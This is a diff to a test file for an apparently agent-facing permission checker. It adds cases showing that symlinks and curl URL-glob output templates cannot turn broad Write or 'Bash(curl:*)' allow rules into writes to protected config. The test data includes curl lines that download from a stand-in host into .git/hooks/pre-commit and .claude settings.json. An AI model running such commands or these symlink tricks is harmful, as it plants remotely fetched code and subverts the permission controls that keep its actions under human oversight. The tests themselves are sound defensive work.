@@ -1,5 +1,7 @@
 /** An open allow rule for a program that speaks with others: where its words lead, whom they name, what they show. */
 import { execFileSync } from "node:child_process";
+import { mkdirSync, symlinkSync } from "node:fs";
+import { join } from "node:path";
 import { afterAll, beforeAll, describe, expect, test } from "vitest";
 import { settingsFrom } from "../app/settings/index.ts";
 import { bash, call, type Project, project } from "../testing/index.ts";
@@ -224,8 +226,23 @@ describe("a rule for a tool that writes does not open what home keeps for progra
     expect(await write("Write", path)).not.toBe("allowRule");
     expect(await write("Edit(~/**)", path)).not.toBe("allowRule");
   });
+  test("nor through a link that lies elsewhere", async () => {
+    mkdirSync(join(here.home, ".config/newtool"), { recursive: true });
+    symlinkSync(join(here.home, ".config/newtool"), join(here.home, "notes"));
+    symlinkSync(join(here.home, ".config/newtool/a.toml"), join(here.home, "a.toml"));
+    expect(await write("Write", "~/notes/a.toml")).not.toBe("allowRule");
+    expect(await write("Write", "~/a.toml")).not.toBe("allowRule");
+  });
   test("where it is named it does, and so for what is not hidden", async () => {
     expect(await write("Write(~/.config/newtool/**)", "~/.config/newtool/a.toml")).toBe("allowRule");
     expect(await write("Write", "~/notes.txt")).toBe("allowRule");
   });
+});
+
+test.each([
+  "curl -s -o '#1/hooks/pre-commit' 'https://x.example/b?{.git}'",
+  "curl -s --create-dirs --output '#1/settings.json' 'https://x.example/b?{.claude,x}'",
+  "curl -so 'a/#1#2' 'https://x.example/{a}/{b}'",
+])("a file named by what stands in an address is any file: %s", async (command) => {
+  expect(await by("Bash(curl:*)", command)).not.toBe("allowRule");
 });
